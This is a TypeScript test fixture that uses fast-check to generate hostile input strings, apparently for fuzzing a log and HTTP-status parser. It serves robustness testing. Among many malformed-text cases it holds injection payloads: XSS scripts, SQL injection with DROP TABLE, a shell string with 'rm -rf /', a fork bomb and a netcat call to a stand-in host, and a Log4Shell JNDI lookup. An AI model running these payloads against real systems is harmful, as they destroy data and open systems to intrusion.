import fc from 'fast-check';

/** A line that a log may have, for what is hostile around it. */
const LINE = '127.0.0.1 - - [22/Nov/2026:12:10:31 +0000] "GET / HTTP/1.1" 499 0 "-" "curl"';

/** The digits of a number in scripts that have digits of their own: each begins at its zero. */
const ZEROS = [0x660, 0x6f0, 0x966, 0x9e6, 0xe50, 0xff10, 0x1d7ce, 0x1d7ec, 0x1fbf0];

function inAllScripts(number: string): string {
  return ZEROS.map((zero) =>
    number.replace(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit))),
  ).join(' ');
}

function nested(depth: number, open: string, inner: string, close: string): string {
  return open.repeat(depth) + inner + close.repeat(depth);
}

/** Texts that somebody pastes who wants to break the guide, or whose program is broken, by what they are. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'null bytes': `\0HTTP/1.1 499\0\0 \0${LINE}\0`,
  'every control character': String.fromCharCode(...Array(160).keys()) + LINE,
  'lone surrogates': `\ud83d HTTP 530 \udca9 \ud83d\ud83d error code: 1033 \udfff`,
  'what is no character': '\ufffe\uffff\ufdd0 499 \u{1fffe}\u{10ffff} HTTP/2 530',
  'text turned around': `\u202e994 1.1/PTTH\u202c \u2067${LINE}\u2069 \u200f530\u200e \u202d`,
  'a line of a megabyte': `HTTP/1.1 499 ${'a'.repeat(1_000_000)}`,
  'a line of digits': '499'.repeat(100_000),
  'a line of spaces': `HTTP/1.1 ${' '.repeat(300_000)}499`,
  'a line of quotes': `"${'\\"'.repeat(60_000)} 499`,
  'a hundred thousand lines': `${'499\n'.repeat(50_000)}${'x\n'.repeat(50_000)}`,
  'more lines than a function takes arguments': 'HTTP 499\n'.repeat(300_000),
  'as many empty lines': `HTTP/2 530\n${'\n'.repeat(300_000)}error code: 1033`,
  'a hundred thousand line ends of each kind': '\r\n\r\u2028\u2029\u0085\v\f'.repeat(14_000),
  'colours and commands of a terminal': `\u001b[31m${LINE}\u001b[0m\u001b]0;title\u0007\u001b[2J\u001b[?25l\u001bP1$r\u001b\\\u009b31m`,
  'commands of a terminal that do not end': `\u001b]8;;${'x'.repeat(50_000)}${'\u001b['.repeat(20_000)}`,
  markup: `HTTP/1.1 499 <img src=x onerror=alert(1)><svg/onload=alert(1)><iframe srcdoc="<script>alert(1)</script>">`,
  'markup that ends what is around it': `</textarea></pre></template></script><script>alert(1)</script><!-- ]]> --> 530`,
  'a page full of tags': `<html><title>530</title>${'<b>'.repeat(30_000)}`,
  'a template': '${7*7} {{constructor.constructor("alert(1)")()}} <%= 7*7 %> #{7*7} HTTP/1.1 499',
  'a database command': `1' OR '1'='1'; DROP TABLE codes;-- 499" UNION SELECT password FROM users/*`,
  'a command of a shell':
    '499; $(rm -rf /) `id` | nc x.example 1 && :(){ :|:& };: \n%0d%0aSet-Cookie: a=b',
  'a lookup of a logger': '${jndi:ldap://x.example/a} ${${lower:j}ndi:rmi://x} HTTP/1.1 530',
  'the name of a prototype':
    '__proto__ constructor toString hasOwnProperty {"__proto__":{"status":499}}',
  'an address that runs':
    'javascript:alert(1)//499 data:text/html,<script>alert(1)</script> vbscript:x',
  'addresses with secrets':
    'https://ann:s3cr3t@x.example/?access_token=s3cr3t&code=s3cr3t-0123#id_token=s3cr3t HTTP/1.1 499',
  'parts of words that go on': `${'a-'.repeat(50_000)}! ${'a.'.repeat(50_000)}@ ${'a='.repeat(50_000)}`,
  'names that go on': `${'x'.repeat(60)}:`.repeat(5_000),
  'brackets that nobody closes': '[{"a":'.repeat(30_000),
  'quotes that nobody closes': `${'{"log":"'.repeat(10_000)}${LINE}`,
  'fields that go on': 'status=499 '.repeat(20_000),
  'times that go on': '2026-11-22T12:10:31.123Z '.repeat(10_000),
  'prefixes that go on': 'Nov 22 12:10:31 host app[1]: '.repeat(10_000),
  'marks of quotes': '> '.repeat(50_000) + LINE,
  'fences in fences': '```\n'.repeat(20_000),
  'addresses of mail that go on': `${'a@'.repeat(30_000)}x ${'a.a'.repeat(30_000)}@`,
  'authority that goes on': `${'Authorization: Bearer '.repeat(5_000)}${'eyJhbGciOi.'.repeat(5_000)}`,
  'private keys that go on': '-----BEGIN PRIVATE KEY-----'.repeat(5_000),
  'letters with many marks': `H\u0300\u0301\u0302T${'\u0489\u035c\u0361'.repeat(20_000)}TP 499`,
  'numbers in all scripts': `HTTP ${inAllScripts('499')} \u2463\u2468\u2468 \u56db\u4e5d\u4e5d CDXCIX`,
  emoji: `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd} 4\ufe0f\u20e39\ufe0f\u20e39\ufe0f\u20e3 ${'\u{1f4a9}'.repeat(20_000)}`,
  'an encoding read as another':
    'â€œHTTP 530â€\u009d Ã¤Ã¶Ã¼ ï»¿499 æ–‡å\u00ad—åŒ– %E4%9 =?utf-8?b?NDk5?= &#52;&#x39;&#57;',
  'two encodings': `${LINE}\n\ufeff${LINE.replace(/./g, '$&\0')}\n\ufffd\ufffd${LINE}`,
  'arrays in arrays': nested(10_000, '[', '499', ']'),
  'objects in objects': nested(10_000, '{"status":', '499', '}'),
  'a record with arrays in arrays': `[{"status":499,"a":${nested(10_000, '[', '', ']')}}]`,
  'a HAR file with objects in objects': `{"log":{"entries":[${nested(10_000, '{"response":', '499', '}')}]}}`,
  'a HAR file of other things':
    '{"log":{"entries":[null,1,"x",[],{},{"response":null},{"response":{"status":"499"}},{"response":{"status":499,"httpVersion":1,"headers":{"a":1},"content":[]}},{"response":{"status":1e999,"headers":[null,1]}}]}}',
  'numbers beyond all numbers': `HTTP/1.1 ${'9'.repeat(50_000)} status=1e999 -499 499.5 0x1f3 NaN Infinity`,
  'a file of bytes': `\x89PNG\r\n\x1a\n\0\0\0\rIHDR\u0000\u0001${'\xff\xfe\0\x80'.repeat(10_000)}PK\x03\x04%PDF-1.7`,
};

/** What hostile texts are made of. */
const PARTS = [
  LINE,
  'HTTP/1.1 530 <none>\r\n',
  'HTTP/2 999\nserver: cloudflare\n\n',
  'Authorization: Bearer s3cr3t-0123\n',
  '{"log":{"entries":[{"response":{"status":530',
  ...Object.values(HOSTILE).filter(({ length }) => length < 300),
  '\u202e',
  '\ud83d',
  '\0',
  '\u001b[',
  '<script>',
  '</textarea>',
  '"',
  '\\',
  '{',
  '[',
  '\n',
];

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc
    .array(fc.oneof(fc.constantFrom(...PARTS), fc.string({ unit: 'binary', maxLength: 20 })), {
      minLength: 1,
      maxLength: 30,
    })
    .map((parts) => parts.join('')),
  fc
    .tuple(fc.constantFrom(...PARTS), fc.integer({ min: 2, max: 300 }))
    .map(([part, times]) => part.repeat(times)),
);

/** Random hostile texts, the same ones at each run. */
export function randomTexts(count: number): readonly string[] {
  return fc.sample(anyText, { numRuns: count, seed: 499 });
}
